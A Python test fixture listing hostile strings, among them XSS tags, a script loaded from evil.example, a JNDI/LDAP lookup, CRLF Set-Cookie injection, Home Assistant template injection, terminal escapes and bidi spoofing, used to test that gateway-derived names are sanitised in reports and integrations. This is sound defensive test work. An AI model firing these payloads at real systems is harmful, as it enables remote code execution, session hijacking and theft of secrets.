"""Hostile strings a gateway could hand us: every one must come out of every output inert.

Anyone who can name a client, an SSID or send traffic that trips an IPS signature chooses these
strings. Reused by the report, delivery and Home Assistant tests.
"""

from __future__ import annotations

from typing import Final

HUGE_HOSTNAME: Final = "h" * 1_000_000

HOSTILE: Final[tuple[str, ...]] = (
    "<script>alert(1)</script>",
    '"><script src=//evil.example/x.js></script>',
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "[click me](http://evil.example/phish)",
    "![pixel](http://evil.example/a.png)",
    "[ref]: http://evil.example/ref",
    "<http://evil.example/auto>",
    "<mailto:victim@example.com>",
    "http://evil.example/bare and https://evil.example/also",
    "www.evil.example",
    "javascript:alert(1)",
    "victim@evil.example",
    "{{ states('sensor.secret') }}",
    "{% raw %}{{ 7*7 }}{% endraw %}",
    "{# comment #}",
    "{0} {1!r} {name}",
    "%s %d %(x)s",
    "${jndi:ldap://evil.example/a}",
    "\x1b[31mRED\x1b[0m \x1b]0;title\x07 \x1b[2J",
    "\u202eexe.txt",
    "safe\u2066isolate\u2069name\u200f",
    "zero\u200bwidth\u200c\u200d\ufeffjoiner",
    "nul\x00byte",
    "bell\x07 backspace\x08 delete\x7f c1\x85\x9b",
    "line\r\nSet-Cookie: evil=1\r\n\r\n<html>",
    "first\nsecond\u2028third\u2029fourth",
    "**bold** _em_ `code` ~~strike~~ # heading",
    "| a | b |\n|---|---|",
    "- list item",
    "1. ordered",
    "> quote",
    "&lt;script&gt;",
    "\\[escaped\\](http://evil.example)",
    "\ud800 lone surrogate",
    HUGE_HOSTNAME,
)

# Raw markup that must never survive into HTML or Markdown as markup.
MARKUP_NEEDLES: Final = ("<script", "<img", "<svg", "<iframe")
# Template delimiters Home Assistant would evaluate.
TEMPLATE_NEEDLES: Final = ("{{", "{%", "{#")
